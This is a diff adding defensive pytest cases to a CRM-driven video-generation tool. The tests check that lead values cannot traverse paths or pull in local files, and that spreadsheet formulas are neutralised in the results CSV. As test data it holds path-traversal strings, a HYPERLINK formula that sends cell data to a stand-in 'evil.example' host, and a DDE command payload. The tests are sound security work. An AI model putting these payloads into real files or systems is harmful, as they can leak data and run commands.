@@ -186,6 +186,43 @@ def test_an_output_that_is_any_rows_input_or_cannot_be_made_is_found_before_anyt
     assert sheet.read_text() == "script,output\nHi,videos/hi.mp4\n"
 
 
+def test_a_leads_value_cannot_move_an_output_or_pick_a_local_file_as_background(tmp_path):
+    """Leads' cells come from a CRM: a company "../../x" wrote a video outside the output folder (over any .mp4
+    the user can write), a website "/home/me/private.mp4" became the background of the video sent to that lead."""
+    write(tmp_path / "private.mp4", "a clip of the user's own")
+    (tmp_path / "campaign" / "clips").mkdir(parents=True)
+    write(tmp_path / "campaign" / "clips" / "intro.mp4", "the campaign's own clip")
+    manifest = write(tmp_path / "campaign" / "m.csv", (
+        "company,site,script,output,background\n"
+        f"../../x,acme.com,Hi,{{{{ company }}}}.mp4,{{{{ site }}}}\n"                      # 2: output climbs
+        f"acme,{tmp_path / 'private.mp4'},Hi,{{{{ company }}}}.mp4,{{{{ site }}}}\n"   # 3: a file by a value
+        f"beta,../private.mp4,Hi,{{{{ company }}}}.mp4,{{{{ site }}}}\n"                # 4: the same, relative
+        "gamma,intro,Hi,../{{ company | slug }}.mp4,clips/{{ site }}.mp4\n"           # 5: the template's own ..
+        f"delta,x,Hi,{tmp_path / 'v' / '{{ company }}.mp4'},../private.mp4\n"          # 6: literal paths
+        "epsilon,a/b,Hi,{{ company }}/{{ site }}.mp4,https://{{ company }}.example\n"  # 7: a subfolder in it
+    ))  # fmt: skip
+    with pytest.raises(ManifestError) as caught:
+        load_manifest(manifest, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path / "out")
+    assert caught.value.problems == [
+        "row 2, column output: a template variable takes it out of its folder: '../../x.mp4' (pass names from "
+        "the data through `| slug`)",
+        f"row 3, column background: a template variable makes it the local path '{tmp_path / 'private.mp4'}'; a "
+        "lead's value may name a website, not a file here",
+        "row 4, column background: a template variable makes it the local path '../private.mp4'; a lead's value "
+        "may name a website, not a file here",
+    ]
+    ok = write(
+        tmp_path / "campaign" / "ok.csv",
+        "\n".join(manifest.read_text().splitlines()[:1] + manifest.read_text().splitlines()[4:]) + "\n",
+    )
+    rows = load_manifest(ok, defaults={"replica_id": DEFAULT_REPLICA}, out_dir=tmp_path / "out").rows
+    assert [(str(r.output), r.background) for r in rows] == [
+        (str(tmp_path / "gamma.mp4"), str(tmp_path / "campaign" / "clips" / "intro.mp4")),
+        (str(tmp_path / "v" / "delta.mp4"), str(tmp_path / "campaign" / ".." / "private.mp4")),
+        (str(tmp_path / "out" / "epsilon" / "a" / "b.mp4"), "https://epsilon.example"),
+    ]
+
+
 def test_rows_selects_by_number_and_an_open_ended_range_is_cut_at_the_last_row(tmp_path, sandbox):
     from assetprep.manifest import parse_rows
 
@@ -580,6 +617,22 @@ def test_a_leads_own_status_or_error_column_is_kept_in_the_results_beside_the_ba
     assert [(r["status"], r["error"]) for r in rows] == [("downloaded", ""), ("downloaded", "")]
     assert [r["status (input)"] for r in result.rows] == ["customer", "lead"]  # --json gives the same
     assert len(creates(sb)) == 2
+
+
+def test_a_leads_cell_that_a_spreadsheet_would_run_as_a_formula_is_text_in_the_results(world, tmp_path):
+    sb, run, _ = world()
+    cells = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+49 30 1234",
+             "-2+3", "\tx=1", "-5", "+1.5", "2e3", "Acme = best", ""]  # fmt: skip
+    manifest = tmp_path / "crm.jsonl"
+    manifest.write_text(
+        "".join(json.dumps({"company": c, "script": f"Hi team {i}."}) + "\n" for i, c in enumerate(cells))
+    )
+    result = run(manifest, out_dir=tmp_path / "out")
+    assert result.ok, result.rows
+    written = [r["company"] for r in read_results(result.results_csv)]
+    assert written == ["'" + c for c in cells[:5]] + cells[5:]  # text; numbers and plain text as they were
+    assert [r.get("company", "") for r in result.rows] == cells  # --json keeps the lead's value
+    assert len(creates(sb)) == len(cells)
 
 
 def test_a_wrong_key_an_unknown_replica_or_a_missing_bucket_stops_the_batch_before_any_recording(world, tmp_path):
